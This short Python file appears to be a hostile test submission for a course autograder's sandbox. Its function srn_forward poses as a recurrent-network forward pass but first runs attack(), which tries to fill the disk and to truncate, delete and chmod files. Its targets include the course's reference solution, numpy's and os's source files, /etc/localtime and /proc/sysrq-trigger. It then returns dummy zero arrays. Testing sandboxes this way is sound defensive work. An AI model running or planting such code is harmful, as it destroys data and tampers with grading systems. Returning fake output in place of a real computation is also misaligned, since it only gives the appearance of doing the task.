# Fills the disk: the current folder, /tmp, /dev/shm, the course, devices, new file systems.
import os
import tempfile

import numpy as np

PLACES = ["x", "/tmp/x", "/var/tmp/x", "/dev/shm/x", "@COURSE@/x", "@COURSE@/solutions/rnn/srn.py", "@MARKER@", "@HOME@/x", "/dev/null",
          "/etc/localtime", np.__file__, os.__file__, "/proc/self/oom_score_adj", "/proc/sysrq-trigger"]


def attack():
    for path in PLACES:
        for make in (
            lambda: open(path, "ab").write(b"x" * (1 << 20)),
            lambda: os.open(path, os.O_RDWR | os.O_CREAT | os.O_TRUNC),
            lambda: os.truncate(path, 1 << 30),
            lambda: os.mkdir(path + "_folder"),
            lambda: os.mkfifo(path + "_pipe"),
            lambda: os.remove(path),
            lambda: os.chmod(path, 0o777),
            lambda: os.utime(path),
            lambda: os.setxattr(path, "user.x", b"x"),
        ):
            try:
                print("DID", path, make())
            except OSError:
                continue
    try:
        print(tempfile.mkdtemp())
    except OSError as error:
        print(type(error).__name__)


def srn_forward(inputs, W_xh, W_hh, W_hy, h0=None):
    attack()
    return np.zeros((len(inputs), len(W_hy))), np.zeros((len(inputs), len(W_xh)))
